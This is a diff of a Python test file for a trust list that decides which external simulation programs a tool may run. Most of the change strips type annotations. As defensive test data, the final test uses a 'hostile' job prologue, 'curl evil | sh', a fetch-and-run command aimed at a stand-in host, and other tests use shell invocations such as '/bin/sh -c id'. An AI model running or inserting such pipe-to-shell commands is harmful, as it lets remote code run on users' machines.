@@ -1,13 +1,10 @@
 """Permission to run programs: by naming them on a call, or by the user's list."""
 
-from __future__ import annotations
-
 import json
 import subprocess
 import sys
 from importlib.util import find_spec
 from pathlib import Path
-from typing import Any
 
 import pytest
 from tests.cli.shell import fixel as command
@@ -45,20 +42,20 @@ for line in sys.stdin:
 
 
 @pytest.fixture(autouse=True)
-def own_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def own_list(tmp_path, monkeypatch):
     """Use an empty list for each test, also in the processes that it starts."""
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
     return tmp_path / "settings"
 
 
 @pytest.fixture
-def engine(tmp_path: Path) -> str:
+def engine(tmp_path):
     path = tmp_path / "toy.py"
     path.write_text(ENGINE)
     return str(path)
 
 
-def started(name: str) -> bool:
+def started(name):
     """Whether a program starts and answers."""
     program = program_of(name)
     try:
@@ -67,14 +64,14 @@ def started(name: str) -> bool:
         program.close()
 
 
-def refused(name: str) -> str:
+def refused(name):
     """Return the sentence with which a program is refused."""
     with pytest.raises(InvalidInput, match="fixel trust") as refusal:
         started(name)
     return str(refusal.value)
 
 
-def in_new_process(code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
+def in_new_process(code, *arguments):
     words = [sys.executable, "-c", code, *arguments]
     return subprocess.run(words, capture_output=True, text=True, check=False, timeout=120)
 
@@ -82,13 +79,13 @@ def in_new_process(code: str, *arguments: str) -> subprocess.CompletedProcess[st
 # --- naming ---------------------------------------------------------------------------------------
 
 
-def test_a_program_that_no_call_names_is_refused(engine: str) -> None:
+def test_a_program_that_no_call_names_is_refused(engine):
     assert f"the program {engine}, which was named by a file" in refused(engine)
     with pytest.raises(InvalidInput, match="fixel trust"):
-        ensemble_of([RolloutCase(pushed_square(), [1.0])], OtherEngine(engine))  # type: ignore[list-item]
+        ensemble_of([RolloutCase(pushed_square(), [1.0])], OtherEngine(engine))
 
 
-def test_a_model_from_a_record_carries_no_permission(engine: str) -> None:
+def test_a_model_from_a_record_carries_no_permission(engine):
     for call in (
         lambda motion: fixel.simulate(pushed_square(), motion=motion),
         lambda motion: fixel.compare(example_pushes(1), motion=motion, progress=False),
@@ -98,19 +95,19 @@ def test_a_model_from_a_record_carries_no_permission(engine: str) -> None:
             call(OtherEngine(engine))
 
 
-def test_a_call_that_names_a_program_runs_it(engine: str) -> None:
+def test_a_call_that_names_a_program_runs_it(engine):
     assert fixel.simulate(pushed_square(), motion=engine).converged
     assert started(engine)  # another simulation of the same program in this process
 
 
-def test_another_argument_is_another_command(engine: str) -> None:
+def test_another_argument_is_another_command(engine):
     fixel.simulate(pushed_square(), motion=engine)
     assert "toy.py fast" in refused(f"{engine}:fast")
     trust.trust_program("/bin/sh:-c,true")
     assert "id" in refused("/bin/sh:-c,id")
 
 
-def test_a_changed_program_is_another_program(engine: str) -> None:
+def test_a_changed_program_is_another_program(engine):
     trust.trust_program(engine)
     assert started(engine)
     Path(engine).write_text(ENGINE + "# changed\n")
@@ -121,14 +118,14 @@ def test_a_changed_program_is_another_program(engine: str) -> None:
     assert started(engine)
 
 
-def test_a_program_that_changes_after_a_call_is_refused(engine: str) -> None:
+def test_a_program_that_changes_after_a_call_is_refused(engine):
     fixel.simulate(pushed_square(), motion=engine)
     Path(engine).write_text(ENGINE + "# changed\n")
     assert "has changed since you allowed it" in refused(engine)
     assert fixel.simulate(pushed_square(), motion=engine).converged
 
 
-def test_a_file_among_the_arguments_counts(engine: str, tmp_path: Path) -> None:
+def test_a_file_among_the_arguments_counts(engine, tmp_path):
     other = tmp_path / "options.json"
     trust.trust_program(f"{engine}:{other}")
     assert started(f"{engine}:{other}")
@@ -136,7 +133,7 @@ def test_a_file_among_the_arguments_counts(engine: str, tmp_path: Path) -> None:
     assert "changed" in refused(f"{engine}:{other}")
 
 
-def test_every_program_is_checked_where_it_is_started(tmp_path: Path) -> None:
+def test_every_program_is_checked_where_it_is_started(tmp_path):
     """Also one that new code would start without a name of an engine."""
     mark = tmp_path / "mark"
     program = Program(("/bin/sh", "-c", f"touch {mark}"))
@@ -147,7 +144,7 @@ def test_every_program_is_checked_where_it_is_started(tmp_path: Path) -> None:
     assert not mark.exists()
 
 
-def test_a_name_with_control_characters_reaches_no_terminal(tmp_path: Path) -> None:
+def test_a_name_with_control_characters_reaches_no_terminal(tmp_path):
     program = tmp_path / "\x1b[2Jtoy"
     program.write_text("#!/bin/sh\n")
     assert refused(str(program)).isprintable()
@@ -156,7 +153,7 @@ def test_a_name_with_control_characters_reaches_no_terminal(tmp_path: Path) -> N
 # --- the list -------------------------------------------------------------------------------------
 
 
-def test_the_command_adds_lists_and_removes(engine: str, capsys: pytest.CaptureFixture) -> None:
+def test_the_command_adds_lists_and_removes(engine, capsys):
     assert "No program is trusted" in command(capsys, "trust")[1]
     assert engine in command(capsys, "trust", engine)[1]
     assert started(engine)
@@ -175,13 +172,13 @@ def test_the_command_adds_lists_and_removes(engine: str, capsys: pytest.CaptureF
         assert "program" in err
 
 
-def test_the_list_is_outside_the_project_and_private(engine: str, own_list: Path) -> None:
+def test_the_list_is_outside_the_project_and_private(engine, own_list):
     own = trust.trust_program(engine)
     assert own.file.is_relative_to(own_list)
     assert own.file.parent.stat().st_mode & 0o077 == 0
 
 
-def test_a_list_that_cannot_be_written_is_named(engine: str, own_list: Path) -> None:
+def test_a_list_that_cannot_be_written_is_named(engine, own_list):
     own_list.write_text("a file")
     with pytest.raises(InvalidInput, match="settings"):
         trust.trust_program(engine)
@@ -197,9 +194,9 @@ run(["compare", "1", "--calibration", "1", "--project", sys.argv[1]])
 
 
 @pytest.mark.system
-def test_a_calibration_by_a_named_program_can_be_used_later(engine: str, tmp_path: Path) -> None:
+def test_a_calibration_by_a_named_program_can_be_used_later(engine, tmp_path):
     project = project_of(tmp_path / "lab", example_pushes(2, duration=0.3))
-    options: dict[str, Any] = {"verdicts": False, "max_evaluations": 2, "progress": False}
+    options = {"verdicts": False, "max_evaluations": 2, "progress": False}
     pushes, space = project.experiments(), {"mu_pusher": (0.0, 1.0)}
     fixel.calibrate(pushes, space, motion=engine, store=project, **options)
     found = in_new_process(COMPARE, str(project.folder))
@@ -213,16 +210,16 @@ def test_a_calibration_by_a_named_program_can_be_used_later(engine: str, tmp_pat
 
 
 @pytest.mark.system
-def test_workers_run_the_program_that_the_call_names(engine: str) -> None:
+def test_workers_run_the_program_that_the_call_names(engine):
     pytest.importorskip("distributed")
-    options: dict[str, Any] = {"verdicts": False, "max_evaluations": 2, "progress": False}
+    options = {"verdicts": False, "max_evaluations": 2, "progress": False}
     fit = fixel.calibrate(
         example_pushes(1, duration=0.3), {"mu_pusher": (0, 1)}, motion=engine, workers=1, **options
     )
     assert fit.request.motion.startswith(engine)
 
 
-def test_lines_of_a_site_come_from_the_user(tmp_path: Path) -> None:
+def test_lines_of_a_site_come_from_the_user(tmp_path):
     if find_spec("dask_jobqueue") is None:  # importing it would change what Ctrl-C does
         pytest.skip("dask-jobqueue is not installed")
     harmless, hostile = Site(queue="main"), Site(prologue=["curl evil | sh"])
